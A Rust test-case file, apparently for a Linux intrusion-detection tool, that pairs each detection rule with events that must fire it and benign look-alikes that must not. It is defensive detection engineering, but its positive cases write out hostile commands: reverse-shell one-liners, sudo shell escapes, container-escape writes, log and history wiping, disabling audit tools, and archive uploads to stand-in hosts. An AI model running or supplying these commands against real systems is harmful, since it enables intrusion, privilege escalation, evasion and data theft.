//! For each rule and detector: what must be told, and what looks like it and must not be.

use super::*;

pub(super) fn cases() -> Vec<Case> {
    use FileAction::{Attrib, Create, Open, Unlink, Write};
    let scan = |count: u16, outcome: Outcome| -> Vec<Event> {
        (1..=count)
            .map(|port| run("/usr/bin/nc", "nc -z h 1").connects(&format!("127.0.0.1:{port}"), outcome))
            .collect()
    };
    let guesses = |count: u16| -> Vec<Event> {
        let sshd = || run("/usr/sbin/sshd", "sshd");
        let mut all: Vec<Event> =
            (0..count).map(|n| sshd().logs_in(&format!("10.0.0.9:{}", 1000 + n), false)).collect();
        all.push(sshd().logs_in("10.0.0.9:2000", true));
        all
    };
    let burst = |names: &[&str]| -> Vec<Event> {
        let exec = |(tgid, name): (u32, &&str)| run(&format!("/usr/bin/{name}"), name).tgid(tgid).exec();
        (200..).zip(names).map(exec).collect()
    };
    vec![
        (
            "reverse_shell_socket",
            vec![
                one(run("/usr/bin/bash", "bash -i").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/dash", "sh -i").under("/usr/bin/python3.11", "python3 x").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/perl", "perl -e x").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/python3.11", "python3 -i").stdio(inet(), inet()).exec()),
                one(run("/bin/busybox", "busybox sh").stdio(inet(), inet()).exec()),
                one(
                    run("/usr/bin/dash", "/bin/sh")
                        .under("/usr/bin/socat", "socat TCP:10.0.0.9:4444 EXEC:/bin/sh")
                        .stdio(Stdio::Socket { family: 1, inode: 5 }, Stdio::Socket { family: 1, inode: 5 })
                        .exec(),
                ),
                one(run("/usr/bin/dash", "/bin/sh").under("/usr/bin/ncat", "ncat -e /bin/sh h 1").stdio(inet(), inet()).exec()),
                one(
                    run("/usr/bin/python3.11", "python3 -c import socket,pty,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')")
                        .exec(),
                ),
            ],
            vec![
                one(run("/usr/bin/bash", "bash -i").exec()),
                one(run("/usr/bin/bash", "bash").stdio(Stdio::Pipe(1), inet()).exec()),
                one(run("/usr/bin/bash", "bash -c ls").under("/usr/sbin/sshd", "sshd: u").stdio(Stdio::Socket { family: 1, inode: 2 }, Stdio::Socket { family: 1, inode: 2 }).exec()),
                one(run("/usr/bin/git", "git daemon --inetd").stdio(inet(), inet()).exec()),
                one(run("/usr/bin/python3.11", "python3 -c import socket;socket.create_connection(('h',1))").exec()),
                one(run("/usr/bin/python3.11", "/usr/bin/python3 -c import socket,subprocess;s.connect(('h',1));subprocess.run(['ls'])").exec()),
            ],
        ),
        (
            "reverse_shell_pipe",
            vec![vec![
                run("/usr/bin/nc.openbsd", "nc 10.0.0.9 4444").tgid(201).stdio(Stdio::Pipe(2), Stdio::Pipe(1)).exec(),
                run("/usr/bin/nc.openbsd", "nc 10.0.0.9 4444").tgid(201).stdio(Stdio::Pipe(2), Stdio::Pipe(1)).connects("10.0.0.9:4444", Outcome::Succeeded),
                run("/usr/bin/dash", "sh -i").tgid(202).stdio(Stdio::Pipe(1), Stdio::Pipe(2)).exec(),
            ]],
            vec![vec![
                run("/usr/bin/cat", "cat list").tgid(201).stdio(Stdio::Tty, Stdio::Pipe(1)).exec(),
                run("/usr/bin/dash", "sh").tgid(202).stdio(Stdio::Pipe(1), Stdio::Pipe(2)).exec(),
                run("/usr/bin/sort", "sort").tgid(203).stdio(Stdio::Pipe(2), Stdio::Tty).exec(),
            ]],
        ),
        (
            "shell_network_connect",
            vec![
                one(run("/usr/bin/bash", "bash -c x").connects("127.0.0.1:4444", Outcome::Succeeded)),
                one(run("/usr/bin/bash", "bash -c x").connects("10.0.0.9:4444", Outcome::Refused)),
            ],
            vec![
                one(run("/usr/bin/curl", "curl h").connects("127.0.0.1:80", Outcome::Succeeded)),
                one(run("/usr/bin/bash", "bash").connects("10.0.0.5:389", Outcome::Succeeded)),
            ],
        ),
        (
            "fileless_exec",
            vec![
                one(run("/memfd:x", "x").change(|p| { p.image.memfd = true; p.image.links = 0; }).exec()),
                one(run("/tmp/gone", "gone").change(|p| p.image.links = 0).exec()),
            ],
            vec![
                one(run("/usr/bin/true", "true").exec()),
                one(run("/memfd:runc_cloned:/proc/self/exe", "runc init").under("/usr/bin/runc", "runc").change(|p| { p.image.memfd = true; p.image.links = 0; }).exec()),
                one(run("/usr/lib/app/app", "app --type=zygote").change(|p| { p.image.links = 0; p.filename = b"/proc/self/exe".to_vec(); }).exec()),
                one(run("/usr/bin/true", "true").change(|p| { p.image.links = 0; p.image.inode = 0; }).exec()),
            ],
        ),
        (
            "exec_world_writable",
            vec![
                one(run("/tmp/watchfire-1/x", "x").exec()),
                one(run("/dev/shm/.k", ".k").exec()),
                one(run("/usr/bin/bash", "bash /var/tmp/s.sh").change(|p| p.filename = b"/var/tmp/s.sh".to_vec()).exec()),
            ],
            vec![one(run("/usr/bin/cat", "cat /tmp/x").exec()), one(run("/home/u/tmp/x", "x").exec())],
        ),
        (
            "web_server_spawns_shell",
            vec![
                one(run("/usr/bin/dash", "sh -c id").under("/usr/sbin/nginx", "nginx: worker").exec()),
                one(run("/usr/bin/dash", "sh -c id").under("/usr/sbin/php-fpm8.2", "php-fpm: pool www").exec()),
                one(run("/usr/bin/dash", "sh -c id").under("/usr/bin/java", "java org.apache.catalina.startup.Bootstrap").exec()),
            ],
            vec![
                one(run("/usr/bin/dash", "sh -c /usr/sbin/sendmail -t -i").under("/usr/sbin/php-fpm8.2", "php-fpm").exec()),
                one(run("/usr/sbin/nginx", "nginx").under("/usr/bin/dash", "sh").exec()),
                one(run("/usr/bin/dash", "sh -c make").under("/usr/bin/java", "java -jar agent.jar").exec()),
            ],
        ),
        (
            "setuid_shell",
            vec![
                one(run("/tmp/x/bash", "bash -p").uid(1000, 0).exec()),
                one(run("/usr/bin/chmod", "chmod u+s x").mode(Attrib, "/tmp/watchfire-1/x", 0o104_755)),
                one(run("/usr/bin/chmod", "chmod u+s /usr/bin/bash").mode(Attrib, "/usr/bin/bash", 0o104_755)),
            ],
            vec![
                one(run("/usr/bin/bash", "bash").exec()),
                one(run("/usr/bin/sudo", "sudo id").uid(1000, 0).exec()),
                one(run("/usr/bin/dpkg", "dpkg -i x").mode(Attrib, "/usr/bin/sudo", 0o104_755)),
                one(run("/usr/bin/chmod", "chmod +x x").mode(Attrib, "/tmp/watchfire-1/x", 0o100_755)),
            ],
        ),
        (
            "shadow_read",
            vec![
                one(run("/usr/bin/cat", "cat /etc/shadow").file(Open, "/etc/shadow")),
                one(run("/tmp/passwd", "passwd").file(Open, "/etc/shadow")),
                one(run("/usr/bin/cat", "cat x").file(Open, "/tmp/watchfire-1/etc/shadow")),
            ],
            vec![
                one(run("/usr/sbin/unix_chkpwd", "unix_chkpwd root").file(Open, "/etc/shadow")),
                one(run("/usr/sbin/sshd", "sshd").file(Open, "/etc/shadow")),
                one(run("/usr/lib/openssh/sshd-session", "sshd-session").file(Open, "/etc/shadow")),
                one(run("/usr/bin/sudo", "sudo id").file(Open, "/etc/shadow")),
                one(run("/usr/sbin/cron", "cron -f").file(Open, "/etc/shadow")),
                one(run("/usr/lib/systemd/systemd-executor", "x").file(Open, "/etc/shadow")),
            ],
        ),
        (
            "private_key_read",
            vec![
                one(run("/usr/bin/cat", "cat").file(Open, "/root/.ssh/id_ed25519")),
                one(run("/usr/bin/cp", "cp").file(Open, "/etc/ssh/ssh_host_rsa_key")),
            ],
            vec![
                one(run("/usr/bin/ssh", "ssh h").file(Open, "/root/.ssh/id_ed25519")),
                one(run("/usr/sbin/sshd", "sshd -D").file(Open, "/etc/ssh/ssh_host_rsa_key")),
                one(run("/usr/bin/cat", "cat").file(Open, "/root/.ssh/id_ed25519.pub")),
            ],
        ),
        (
            "ssh_authorized_keys",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/root/.ssh/authorized_keys")),
                one(run("/usr/bin/mv", "mv").renames("/root/.ssh/x", "/root/.ssh/authorized_keys")),
            ],
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/root/.ssh/known_hosts")),
                one(run("/usr/bin/rm", "rm").file(Unlink, "/root/.ssh/authorized_keys")),
            ],
        ),
        (
            "cron_persistence",
            vec![
                one(run("/usr/bin/bash", "bash").file(Create, "/tmp/watchfire-1/etc/cron.d/x")),
                one(run("/usr/bin/crontab", "crontab -").renames("/var/spool/cron/crontabs/tmp.1", "/var/spool/cron/crontabs/root")),
                one(run("/usr/bin/vi", "vi").file(Write, "/etc/crontab")),
            ],
            vec![
                one(run("/usr/bin/dpkg", "dpkg -i").renames("/etc/cron.d/p.dpkg-new", "/etc/cron.d/p")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/cron.deny.txt")),
            ],
        ),
        (
            "systemd_persistence",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/systemd/system/x.service")),
                one(run("/usr/bin/cp", "cp").file(Create, "/home/u/.config/systemd/user/x.timer")),
            ],
            vec![
                one(run("/usr/bin/systemctl", "systemctl enable x").file(Create, "/etc/systemd/system/multi-user.target.wants/x.service")),
                one(run("/usr/bin/dpkg", "dpkg").file(Create, "/usr/lib/systemd/system/x.service")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/systemd/system.conf")),
            ],
        ),
        (
            "shell_profile_persistence",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/root/.bashrc")),
                one(run("/usr/bin/tee", "tee").file(Create, "/etc/profile.d/x.sh")),
            ],
            vec![
                one(run("/usr/sbin/useradd", "useradd -m u").file(Create, "/home/u/.bashrc")),
                one(run("/usr/bin/bash", "bash").file(Write, "/root/.bash_history")),
            ],
        ),
        (
            "ld_so_preload",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/ld.so.preload")),
                one(run("/usr/bin/mv", "mv").renames("/etc/x", "/etc/ld.so.preload")),
            ],
            vec![
                one(run("/usr/sbin/ldconfig", "ldconfig").renames("/etc/ld.so.cache~", "/etc/ld.so.cache")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/ld.so.conf.d/x.conf")),
            ],
        ),
        (
            "kernel_module_load",
            vec![
                one(run("/usr/bin/kmod", "insmod /tmp/x.ko").does(Body::ModuleLoad { name: b"x".to_vec(), call: "finit_module", result: -1 })),
                one(run("/usr/bin/kmod", "insmod /tmp/x.ko").exec()),
                one(run("/tmp/loader", "loader").does(Body::ModuleLoad { name: b"".to_vec(), call: "init_module", result: 0 })),
            ],
            vec![
                one(run("/usr/bin/udevadm", "(udev-worker)").does(Body::ModuleLoad { name: b"e1000".to_vec(), call: "finit_module", result: 0 })),
                one(run("/usr/bin/kmod", "modprobe -q x").under("", "").does(Body::ModuleLoad { name: b"x".to_vec(), call: "finit_module", result: 0 })),
                one(run("/usr/bin/kmod", "lsmod").exec()),
            ],
        ),
        (
            "history_wiped",
            vec![
                one(run("/usr/bin/rm", "rm .bash_history").file(Unlink, "/root/.bash_history")),
                one(run("/usr/bin/truncate", "truncate -s 0 x").file(Write, "/home/u/.bash_history")),
                one(run("/usr/bin/bash", "bash -c history -c").exec()),
                one(run("/usr/bin/env", "env HISTFILE=/dev/null bash").exec()),
                one(run("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history").exec()),
            ],
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/root/.bash_history")),
                one(run("/usr/bin/bash", "bash").renames("/root/.bash_history-09.tmp", "/root/.bash_history")),
                one(run("/usr/sbin/userdel", "userdel -r u").file(Unlink, "/home/u/.bash_history")),
                one(run("/usr/bin/cat", "cat .bash_history").exec()),
                one(run("/usr/bin/env", "env HISTFILE=/root/h bash").exec()),
            ],
        ),
        (
            "log_deleted",
            vec![
                one(run("/usr/bin/rm", "rm").file(Unlink, "/tmp/watchfire-1/var/log/auth.log")),
                one(run("/usr/bin/truncate", "truncate").file(Write, "/var/log/wtmp")),
                one(run("/usr/bin/bash", "bash").file(Write, "/var/log/syslog")),
                one(run("/usr/bin/mv", "mv").renames("/var/log/secure", "/tmp/s")),
            ],
            vec![
                one(run("/usr/sbin/logrotate", "logrotate").renames("/var/log/auth.log", "/var/log/auth.log.1")),
                one(run("/usr/sbin/rsyslogd", "rsyslogd").file(Write, "/var/log/syslog")),
                one(run("/usr/bin/gzip", "gzip").file(Unlink, "/var/log/auth.log.2")),
                one(run("/usr/lib/systemd/systemd-journald", "j").file(Unlink, "/var/log/journal/1/system@1.journal")),
                one(run("/usr/bin/rm", "rm").file(Unlink, "/var/log/nginx/access.log")),
            ],
        ),
        (
            "ptrace_injection",
            vec![
                one(run("/usr/bin/python3.11", "python3 inject.py").ptraces("attach", 0)),
                one(run("/tmp/x", "x").ptraces("process_vm_writev", 64)),
            ],
            vec![
                one(run("/usr/bin/gdb", "gdb -p 1").ptraces("attach", 0)),
                one(run("/usr/bin/strace", "strace ls").ptraces("seize", 0)),
                one(run("/usr/bin/python3.11", "python3 x").ptraces("attach", -1)),
                one(run("/usr/bin/make", "make").ptraces("traceme", 0)),
            ],
        ),
        (
            "container_escape_mount",
            vec![
                one(run("/usr/bin/mount", "mount").inside().mounts("/dev/sda1", "/mnt", "ext4")),
                one(run("/usr/bin/mount", "mount").mounts("cgroup", "/tmp/watchfire-1/cgrp", "cgroup")),
                one(run("/usr/bin/mount", "mount").inside().mounts("/proc/1/root", "/host", "none")),
            ],
            vec![
                one(run("/usr/bin/mount", "mount").mounts("/dev/sda1", "/mnt", "ext4")),
                one(run("/usr/bin/runc", "runc init").inside().mounts("/dev/sda1", "/data", "ext4")),
                one(run("/usr/bin/mount", "mount").mounts("tmpfs", "/tmp/watchfire-1/t", "tmpfs")),
                one(run("/usr/bin/mount", "mount").inside().mounts("proc", "/proc", "proc")),
            ],
        ),
        (
            "release_agent",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/cgrp/release_agent")),
                one(run("/usr/bin/bash", "bash").file(Write, "/proc/sys/kernel/core_pattern")),
                one(run("/usr/bin/dash", "sh -c echo /cmd > /tmp/cgrp/release_agent").exec()),
                one(run("/usr/sbin/sysctl", "sysctl -w kernel.core_pattern=|/tmp/x").exec()),
            ],
            vec![
                one(run("/usr/lib/systemd/systemd-sysctl", "systemd-sysctl").file(Write, "/proc/sys/kernel/core_pattern")),
                one(run("/usr/bin/cat", "cat /sys/fs/cgroup/release_agent").exec()),
                one(run("/usr/sbin/sysctl", "sysctl -w kernel.core_pattern=core").exec()),
            ],
        ),
        (
            "namespace_escape",
            vec![
                one(run("/usr/bin/nsenter", "nsenter -t 1 -m -u bash").exec()),
                one(run("/usr/bin/nsenter", "nsenter --target 1 --mount sh").exec()),
                one(run("/usr/bin/unshare", "unshare -Ur").does(Body::Namespace(NamespaceActivity { call: "unshare", flags: 0x1002_0000, result: 0 }))),
                one(run("/tmp/x", "x").inside().does(Body::Namespace(NamespaceActivity { call: "setns", flags: 0x2_0000, result: 0 }))),
            ],
            vec![
                one(run("/usr/bin/nsenter", "nsenter -t 4711 -n ss").exec()),
                one(run("/usr/bin/unshare", "unshare -m").does(Body::Namespace(NamespaceActivity { call: "unshare", flags: 0x2_0000, result: 0 }))),
                one(run("/usr/bin/bwrap", "bwrap").does(Body::Namespace(NamespaceActivity { call: "clone", flags: 0x1002_0000, result: 0 }))),
                one(run("/usr/sbin/ip", "ip netns exec a b").does(Body::Namespace(NamespaceActivity { call: "setns", flags: 0x4000_0000, result: 0 }))),
            ],
        ),
        (
            "crypto_miner",
            vec![
                one(run("/tmp/m", "m -o stratum+tcp://pool:3333 -u w").exec()),
                one(run("/opt/k", "k --donate-level 1").exec()),
                one(run("/usr/bin/xmrig", "xmrig").exec()),
                one(run("/tmp/m", "m").connects("10.0.0.9:3333", Outcome::Succeeded)),
            ],
            vec![
                one(run("/usr/bin/mysqld", "mysqld --nice").exec()),
                one(run("/usr/bin/node", "node").connects("10.0.0.9:3333", Outcome::Succeeded)),
                one(run("/usr/bin/grep", "grep stratum notes").exec()),
            ],
        ),
        ("ssh_brute_force_success", vec![guesses(6)], vec![guesses(2)]),
        (
            "suspicious_sudo",
            vec![
                one(run("/usr/bin/sudo", r"sudo find . -exec /bin/sh \; -quit").exec()),
                one(run("/usr/bin/sudo", "sudo find . -exec /bin/sh ; -quit").exec()),
                one(run("/usr/bin/sudo", "sudo vim -c :!/bin/sh").exec()),
                one(run("/usr/bin/sudo", "sudo vim -c :!sh").exec()),
                one(run("/usr/bin/sudo", "sudo awk BEGIN {system(\"/bin/sh\")}").exec()),
                one(run("/usr/bin/sudo", "sudo -u#-1 id").exec()),
                one(run("/usr/bin/sudo", "sudo env /bin/sh").exec()),
                one(run("/usr/bin/sudo", "sudo tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh").exec()),
                one(run("/usr/bin/sudo", "sudo python3 -c import os;os.system('/bin/sh')").exec()),
            ],
            vec![
                one(run("/usr/bin/sudo", "sudo find / -name x -exec rm {} ;").exec()),
                one(run("/usr/bin/sudo", "sudo find / -exec sh -c 'mv $1 $2' ;").exec()),
                one(run("/usr/bin/sudo", "sudo systemctl restart ssh").exec()),
                one(run("/usr/bin/sudo", "sudo vim /etc/hosts").exec()),
                one(run("/usr/bin/sudo", "sudo -u postgres psql").exec()),
                one(run("/usr/bin/sudo", "sudo env PATH=/bin make install.sh").exec()),
                one(run("/usr/bin/sudo", "sudo -u#1000 id").exec()),
            ],
        ),
        (
            "sudoers_changed",
            vec![
                one(run("/usr/bin/tee", "tee").file(Write, "/tmp/watchfire-1/etc/sudoers.d/x")),
                one(run("/usr/bin/bash", "bash").file(Write, "/etc/sudoers")),
            ],
            vec![
                one(run("/usr/sbin/visudo", "visudo").renames("/etc/sudoers.tmp", "/etc/sudoers")),
                one(run("/usr/bin/dpkg", "dpkg").file(Create, "/etc/sudoers.d/README")),
            ],
        ),
        (
            "account_created",
            vec![
                one(run("/usr/sbin/useradd", "useradd -m mallory").exec()),
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/passwd")),
            ],
            vec![
                one(run("/usr/sbin/useradd", "useradd --system --no-create-home svc").exec()),
                one(run("/usr/sbin/useradd", "useradd --help").exec()),
                one(run("/usr/bin/passwd", "passwd").renames("/etc/passwd+", "/etc/passwd")),
                one(run("/usr/sbin/userdel", "userdel x").exec()),
            ],
        ),
        ("port_scan", vec![scan(20, Outcome::Refused)], vec![scan(20, Outcome::Succeeded), scan(8, Outcome::Refused)]),
        (
            "download_and_execute",
            vec![
                vec![
                    run("/usr/bin/curl", "curl -o /tmp/x h").tgid(201).mode(Write, "/tmp/x", 0o100_755),
                    run("/tmp/x", "/tmp/x").tgid(202).exec(),
                ],
                vec![
                    run("/usr/bin/curl", "curl h").tgid(201).stdio(Stdio::Tty, Stdio::Pipe(5)).exec(),
                    run("/usr/bin/bash", "bash").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
                ],
            ],
            vec![
                vec![
                    run("/usr/bin/curl", "curl -o /tmp/x h").tgid(201).mode(Write, "/tmp/x", 0o100_755),
                    run("/usr/bin/sha256sum", "sha256sum /tmp/x").tgid(202).exec(),
                ],
                vec![
                    run("/usr/bin/curl", "curl h").tgid(201).stdio(Stdio::Tty, Stdio::Pipe(5)).exec(),
                    run("/usr/bin/jq", "jq .").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
                ],
            ],
        ),
        (
            "decode_and_execute",
            vec![vec![
                run("/usr/bin/base64", "base64 -d").tgid(201).stdio(Stdio::Pipe(4), Stdio::Pipe(5)).exec(),
                run("/usr/bin/dash", "sh").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
            ]],
            vec![vec![
                run("/usr/bin/base64", "base64 -d").tgid(201).stdio(Stdio::Pipe(4), Stdio::Pipe(5)).exec(),
                run("/usr/bin/wc", "wc -c").tgid(202).stdio(Stdio::Pipe(5), Stdio::Tty).exec(),
            ]],
        ),
        (
            "exec_dropped_file",
            vec![vec![
                run("/usr/bin/chmod", "chmod +x /tmp/x").tgid(201).mode(Attrib, "/tmp/x", 0o100_755),
                run("/tmp/x", "/tmp/x").tgid(202).exec(),
            ]],
            vec![vec![
                run("/usr/bin/chmod", "chmod +x /home/u/x").tgid(201).mode(Attrib, "/home/u/x", 0o100_755),
                run("/home/u/x", "/home/u/x").tgid(202).exec(),
            ]],
        ),
        (
            "discovery_burst",
            vec![burst(&["whoami", "id", "uname", "hostname", "ss"])],
            vec![burst(&["whoami", "id", "uname", "hostname"]), burst(&["id", "id", "id", "id", "id", "id", "id"])],
        ),
        (
            "bpf_program_load",
            vec![one(run("/tmp/x", "x").does(Body::BpfLoad { program_type: 17, name: b"p".to_vec(), result: 5 }))],
            vec![
                one(run("/usr/lib/systemd/systemd", "systemd").does(Body::BpfLoad { program_type: 8, name: b"p".to_vec(), result: 5 })),
                one(run("/srv/watchfire-agent", "watchfire-agent").does(Body::BpfLoad { program_type: 17, name: b"p".to_vec(), result: 5 })),
                one(run("/tmp/x", "x").does(Body::BpfLoad { program_type: 17, name: b"p".to_vec(), result: -1 })),
            ],
        ),
        (
            "security_tool_disabled",
            vec![
                one(run("/usr/sbin/setenforce", "setenforce 0").exec()),
                one(run("/usr/bin/systemctl", "systemctl stop auditd").exec()),
                one(run("/usr/bin/systemctl", "systemctl disable --now ufw.service").exec()),
                one(run("/usr/sbin/iptables", "iptables -F").exec()),
                one(run("/usr/sbin/auditctl", "auditctl -e 0").exec()),
                one(run("/usr/bin/python3.11", "/usr/bin/python3 /usr/sbin/ufw disable").exec()),
                one(run("/usr/bin/dash", "service auditd stop").exec()),
            ],
            vec![
                one(run("/usr/bin/systemctl", "systemctl restart auditd").exec()),
                one(run("/usr/bin/systemctl", "systemctl stop nginx").exec()),
                one(run("/usr/bin/systemctl", "systemctl status auditd").exec()),
                one(run("/usr/sbin/iptables", "iptables -F DOCKER").exec()),
                one(run("/usr/bin/systemctl", "systemctl stop ufw").under("/usr/bin/perl", "perl /usr/bin/deb-systemd-invoke stop ufw").exec()),
            ],
        ),
        (
            "timestomp",
            vec![
                one(run("/usr/bin/touch", "touch -r /bin/ls /tmp/watchfire-1/usr/bin/x").exec()),
                one(run("/usr/bin/touch", "touch -d 2019-01-01 /etc/passwd").exec()),
                one(run("/usr/bin/touch", "touch -amt 201901010000 /usr/bin/x").exec()),
            ],
            vec![
                one(run("/usr/bin/touch", "touch /etc/motd").exec()),
                one(run("/usr/bin/touch", "touch -r a b").exec()),
                one(run("/usr/bin/touch", "touch -d now /home/u/build/stamp").exec()),
            ],
        ),
        (
            "pam_changed",
            vec![
                one(run("/usr/bin/bash", "bash").file(Write, "/tmp/watchfire-1/etc/pam.d/sshd")),
                one(run("/usr/bin/cp", "cp").file(Create, "/usr/lib/x86_64-linux-gnu/security/pam_x.so")),
            ],
            vec![
                one(run("/usr/bin/perl", "perl /usr/sbin/pam-auth-update").file(Write, "/etc/pam.d/common-auth")),
                one(run("/usr/bin/dpkg", "dpkg").file(Create, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so.dpkg-new")),
            ],
        ),
        (
            "exfil_archive_upload",
            vec![
                one(run("/usr/bin/curl", "curl -T /tmp/watchfire-1/loot.tar.gz http://127.0.0.1:1/").exec()),
                one(run("/usr/bin/wget", "wget --post-file=/tmp/x.tgz http://127.0.0.1:1/").exec()),
                one(run("/usr/bin/curl", "curl -F f=@a.zip http://h/").change(|p| p.cwd = b"/tmp/watchfire-1".to_vec()).exec()),
            ],
            vec![
                one(run("/usr/bin/curl", "curl -o /tmp/x.tar.gz http://h/x.tar.gz").exec()),
                one(run("/usr/bin/curl", "curl -T /srv/build/x.tar.gz http://h/").exec()),
            ],
        ),
        (
            "privilege_gained",
            vec![one(run("/tmp/x", "x").does(Body::Credentials {
                before: Credentials { uid: 1000, euid: 1000, suid: 1000, ..Credentials::default() },
                after: Credentials::default(),
            }))],
            vec![
                one(run("/usr/sbin/sshd", "sshd").does(Body::Credentials {
                    before: Credentials { uid: 0, euid: 1000, suid: 0, ..Credentials::default() },
                    after: Credentials::default(),
                })),
                one(run("/usr/bin/x", "x").does(Body::Credentials {
                    before: Credentials { uid: 1000, euid: 1000, suid: 1000, cap_effective: 1 << 7, ..Credentials::default() },
                    after: Credentials::default(),
                })),
            ],
        ),
    ]
}
